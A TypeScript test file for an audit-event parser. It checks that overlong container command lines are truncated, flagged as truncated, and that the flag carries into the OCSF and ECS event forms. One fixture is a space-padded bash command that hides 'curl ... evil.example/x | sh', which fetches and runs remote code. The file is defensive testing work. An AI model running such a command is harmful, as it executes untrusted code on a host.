import { describe, expect, it } from 'vitest';
import { MAX_COMMAND_LINE_LENGTH } from './constants.js';
import { exampleEvents } from './examples.js';
import { toEcs } from './mappers/ecs.js';
import { toOcsf } from './mappers/ocsf.js';
import { parseAuditEvent } from './parse.js';

// A command line is cut at MAX_COMMAND_LINE_LENGTH. Cut without a mark, a
// command padded with spaces hid its tail (`; curl ... | sh`) from the
// event, and nothing said the event held only its head (found by a probe).
const exec = exampleEvents.CONTAINER_EXEC;
const withCommand = (command_line: string) => ({ ...exec, process: { ...exec.process, command_line } });

describe('process.command_line_truncated', () => {
  it('is set when the command line is cut, and the cut keeps the head', () => {
    const padded = `bash -c "${' '.repeat(MAX_COMMAND_LINE_LENGTH)}; curl -s http://evil.example/x | sh"`;
    const input = withCommand(padded);
    const r = parseAuditEvent(JSON.stringify(input));
    if (!r.ok) throw new Error(JSON.stringify(r.issues));
    const p = (r.event as { process: { command_line: string; command_line_truncated?: boolean } }).process;
    expect(p.command_line).toBe(padded.slice(0, MAX_COMMAND_LINE_LENGTH));
    expect(p.command_line_truncated).toBe(true);
    // From an object too, and the caller's object is left as it was.
    const fromObject = parseAuditEvent(input);
    expect(fromObject.ok && (fromObject.event as { process: { command_line_truncated?: boolean } }).process.command_line_truncated).toBe(true);
    expect(input.process).not.toHaveProperty('command_line_truncated');
  });

  it('counts the escapes: control characters that take it past the limit once written as \\xNN mark it too', () => {
    // 1100 characters, each written as \x1b (4 units): 4400 once escaped.
    const r = parseAuditEvent(withCommand('\u001b'.repeat(1100)));
    expect(r.ok && (r.event as { process: { command_line: string; command_line_truncated?: boolean } }).process).toMatchObject({ command_line: '\\x1b'.repeat(1000), command_line_truncated: true });
  });

  it('is not set on a command line that fits, exactly at the limit included', () => {
    for (const cl of ['/bin/sh', 'x'.repeat(MAX_COMMAND_LINE_LENGTH), '\u001b'.repeat(MAX_COMMAND_LINE_LENGTH / 4)]) {
      const r = parseAuditEvent(withCommand(cl));
      if (!r.ok) throw new Error(JSON.stringify(r.issues));
      expect((r.event as { process: object }).process).not.toHaveProperty('command_line_truncated');
    }
  });

  it('reaches the OCSF and ECS forms', () => {
    const r = parseAuditEvent(withCommand('y'.repeat(MAX_COMMAND_LINE_LENGTH + 1)));
    if (!r.ok) throw new Error(JSON.stringify(r.issues));
    expect(JSON.stringify(toOcsf(r.event))).toContain('"command_line_truncated":true');
    expect(JSON.stringify(toEcs(r.event))).toContain('"command_line_truncated":true');
  });
});
